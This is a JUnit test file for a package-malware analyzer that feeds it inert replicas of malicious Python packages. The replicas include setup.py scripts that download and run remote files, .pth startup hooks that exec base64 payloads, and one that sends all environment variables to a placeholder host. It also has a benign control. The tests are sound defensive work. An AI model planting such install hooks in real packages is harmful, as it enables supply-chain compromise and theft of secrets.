package dev.gatehouse.policy.replicas;

import static dev.gatehouse.policy.replicas.PythonPackages.sdist;
import static dev.gatehouse.policy.replicas.PythonPackages.wheel;

import dev.gatehouse.analyzer.Capability;
import dev.gatehouse.analyzer.Trigger;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Base64;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Inert replicas of PyPI malware that runs when pip builds an sdist ({@code setup.py} that downloads and
 * spawns, directly or through the package's own modules) or at every interpreter start (an executing
 * {@code .pth}, the LiteLLM 1.82.8 mechanism); and the literal {@code setup()} that must pass.
 */
class PythonSetupScriptReplicasTest {
  @TempDir Path tmp;

  @Nested
  @DisplayName("shape: setup.py downloads and spawns")
  class SetupDownloadsAndSpawns {
    @Test
    void topLevelUrlretrieveAndPopen() throws Exception {
      sdist(tmp, "mistralai", "setup.py", """
          import subprocess, urllib.request
          from setuptools import setup
          urllib.request.urlretrieve("https://x.example.invalid/t.pyz", "/tmp/t.pyz")
          subprocess.Popen(["python3", "/tmp/t.pyz"])
          setup(name="mistralai", version="1.0.0")
          """).isStopped(Trigger.SETUP_SCRIPT, Capability.NETWORK, Capability.PROCESS_SPAWN);
    }

    @Test
    void cmdclassInstallRunsAWindowsOnlyDownload() throws Exception {
      sdist(tmp, "pyqt-tools", "setup.py", """
          import os, subprocess
          from setuptools import setup
          from setuptools.command.install import install
          class PostInstall(install):
              def run(self):
                  install.run(self)
                  if os.name == "nt":
                      subprocess.Popen("powershell iwr https://d.example.invalid/u.exe -OutFile u.exe; .\\\\u.exe",
                                       shell=True)
          setup(name="pyqt-tools", version="1.0.0", cmdclass={"install": PostInstall})
          """).isStopped(Trigger.SETUP_SCRIPT, Capability.PROCESS_SPAWN, Capability.NETWORK);
    }

    @Test
    void setupCallsAFunctionOfThePackageInAnotherModule() throws Exception {
      sdist(tmp, "requests-toolbelt2", "setup.py", """
          from setuptools import setup
          from requests_toolbelt2._bootstrap import prepare
          prepare()
          setup(name="requests-toolbelt2", version="1.0.0", packages=["requests_toolbelt2"])
          """, "requests_toolbelt2/__init__.py", "", "requests_toolbelt2/_bootstrap.py", """
          import os, requests, subprocess, tempfile
          def _get(u):
              return requests.get(u).content
          def prepare():
              p = os.path.join(tempfile.gettempdir(), "b")
              open(p, "wb").write(_get("https://b.example.invalid/b"))
              subprocess.call(["sh", p])
          """).isStopped(Trigger.SETUP_SCRIPT, Capability.NETWORK, Capability.PROCESS_SPAWN);
    }

    @Test
    void setupImportsThePackageWhoseInitCarriesThePayload() throws Exception {
      sdist(tmp, "sentry-sdk2", "setup.py", """
          from setuptools import setup
          import sentry_sdk2
          setup(name="sentry-sdk2", version=sentry_sdk2.__version__)
          """, "sentry_sdk2/__init__.py", """
          import os
          __version__ = "1.0.0"
          os.system("wget -q https://s.example.invalid/s -O /tmp/s && sh /tmp/s")
          """).isStopped(Trigger.SETUP_SCRIPT, Capability.PROCESS_SPAWN, Capability.NETWORK);
    }
  }

  @Nested
  @DisplayName("shape: executing .pth (LiteLLM 1.82.8)")
  class ExecutingPth {
    private final String payload = Base64.getEncoder().encodeToString(
        "import os\nos.system('id')\n".getBytes(StandardCharsets.UTF_8));

    @Test
    void pthSpawnsPythonWithABase64Payload() throws Exception {
      wheel(tmp, "litellm", "litellm_init.pth",
          "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import base64; exec(base64.b64decode(\""
              + payload + "\"))'])\n", "litellm/__init__.py", "")
          .isStopped(Trigger.STARTUP_HOOK, Capability.PROCESS_SPAWN).isBlocked();
    }

    @Test
    void pthImportsAModuleOfThePackageThatBeacons() throws Exception {
      wheel(tmp, "litellm", "litellm_init.pth", "import litellm._proxy_init\n", "litellm/__init__.py", "",
          "litellm/_proxy_init.py", """
          import os, json, urllib.request
          urllib.request.urlopen("https://models.example.invalid/v1", data=json.dumps(dict(os.environ)).encode())
          """).isStopped(Trigger.STARTUP_HOOK, Capability.NETWORK, Capability.ENVIRONMENT_READ).isBlocked();
    }

    @Test
    void pthExecOfAnEncodedOneLiner() throws Exception {
      wheel(tmp, "litellm", "zz_init.pth", "import base64; exec(base64.b64decode('" + payload + "'))\n",
          "litellm/__init__.py", "").isStopped(Trigger.STARTUP_HOOK, Capability.ENCODED_PAYLOAD).isBlocked();
    }
  }

  @Nested
  @DisplayName("benign twin: a setup script that only builds")
  class Benign {
    @Test
    void literalSetupReadingItsReadmeAndVersionFile() throws Exception {
      sdist(tmp, "plainpkg", "setup.py", """
          import os
          from setuptools import setup
          here = os.path.dirname(__file__)
          with open(os.path.join(here, "README.md")) as f:
              long_description = f.read()
          about = {}
          exec(open(os.path.join(here, "plainpkg", "__version__.py")).read(), about)
          setup(name="plainpkg", version=about["__version__"], long_description=long_description)
          """, "plainpkg/__init__.py", "", "plainpkg/__version__.py", "__version__ = '1.0.0'\n", "README.md", "x\n")
          .isAllowed();
    }
  }
}
